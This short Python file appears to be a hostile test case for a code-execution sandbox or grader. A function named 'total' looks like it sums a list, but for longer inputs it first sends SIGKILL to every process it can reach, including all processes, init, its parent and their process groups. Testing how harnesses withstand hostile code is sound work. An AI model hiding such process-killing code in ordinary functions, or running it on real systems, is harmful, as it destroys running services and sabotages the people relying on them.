"""Sends SIGKILL to every process that it may, its parent and the groups of others included."""
# expects: total crash or passed or limit or raised
# %% total
import os
import signal


def total(xs):
    if len(xs) in (1, 2):
        return sum(xs)
    for pid in (-1, 0, 1, os.getppid(), *range(2, 400)):
        try:
            if pid != os.getpid():
                os.kill(pid, signal.SIGKILL)
                os.killpg(pid, signal.SIGKILL)
        except (OSError, ValueError):
            pass
    return sum(xs)
